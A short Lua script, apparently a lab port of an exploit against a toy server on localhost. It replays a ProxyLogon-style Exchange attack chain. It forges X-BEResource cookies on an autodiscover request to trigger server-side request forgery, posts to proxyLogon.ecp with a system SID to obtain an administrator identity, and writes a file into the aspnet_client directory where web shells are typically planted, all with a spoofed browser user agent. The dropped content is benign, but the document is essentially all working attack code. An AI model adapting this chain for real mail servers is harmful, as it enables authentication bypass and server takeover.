-- Lua + LuaSocket port of the lab request chain (toy server on 127.0.0.1 only).
-- LuaSocket keeps headers in a table: it sends names in lower case, in its own order.
local http = require("socket.http")
local ltn12 = require("ltn12")

local port = arg[1] or "8080"
local base = "http://127.0.0.1:" .. port
local AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
local DOMAIN = "lab.invalid"
local NOTE = "/aspnet_client/system_web/readme_91453.txt"
http.TIMEOUT = 10

local function browser(extra)
  local h = {
    ["User-Agent"] = AGENT,
    ["x-requested-with"] = "XMLHttpRequest",
    ["Accept"] = "*/*",
    ["accept-language"] = "en-US,en;q=0.9",
    ["connection"] = "close",
  }
  for k, v in pairs(extra or {}) do h[k] = v end
  return h
end

local function send(method, path, headers, body)
  local chunks = {}
  if body then headers["content-length"] = tostring(#body) end
  local _, code = http.request({
    url = base .. path,
    method = method,
    headers = headers,
    source = body and ltn12.source.string(body) or nil,
    sink = ltn12.sink.table(chunks),
  })
  return code, table.concat(chunks)
end

local pad = string.rep("A", 37)
local cookie = "X-AnonResource=true; X-AnonResource-Backend=" .. DOMAIN
  .. "; X-BEResource=localhost@" .. DOMAIN .. "/ews/exchange.asmx?a%3D~1843073522"
local code = send("GET", "/autodiscover/autodiscover.json?Pad=" .. pad
  .. "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720",
  browser({ cookie = cookie }))
if type(code) ~= "number" or code >= 500 then os.exit(1) end

local status, answer = send("POST", "/ecp/proxyLogon.ecp", {
  ["user-agent"] = AGENT,
  ["msexchlogonmailbox"] = "S-1-5-20",
  ["content-type"] = "application/json",
  ["X-BEResource"] = "localhost@" .. DOMAIN .. "/ecp/proxyLogon.ecp",
}, '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}')
local who = (status == 200 and answer:match("^%s*(.-)%s*$")) or ""
if who == "" then who = "anonymous" end

local lines = {}
for i = 1, 3 do lines[#lines + 1] = string.format("note %d of 3 for %s", i, who) end
send("POST", NOTE, {
  ["user-agent"] = AGENT,
  ["X-Note-Path"] = NOTE,
  ["Content-Type"] = "text/plain",
}, table.concat(lines, "\n"))
local _, back = send("GET", NOTE, browser())
print(#back)
